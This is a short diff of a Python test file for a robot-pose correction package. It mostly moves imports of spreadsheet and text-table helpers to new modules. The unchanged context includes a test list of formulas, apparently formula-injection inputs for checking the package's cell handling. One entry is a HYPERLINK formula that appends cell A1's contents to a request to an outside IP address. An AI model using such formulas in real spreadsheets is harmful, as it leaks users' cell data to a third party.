@@ -10,9 +10,9 @@ from hypothesis import strategies as st
 from tests.helpers.domain.robots import IRB_120
 from tests.helpers.identification.models import model_of
 from truepose.correction import correct
-from truepose.exchange.brought.files.text import cells_of
+from truepose.exchange.import_wizard.sheet import cells_of
+from truepose.exchange.tables.rows import read_text, written_text
 from truepose.exchange.tables.targets import CorrectionWriter, targets_of
-from truepose.exchange.tables.texts import read_text, written_text
 
 FORMULAS = [
     '=HYPERLINK("http://192.0.2.1/?"&A1)',
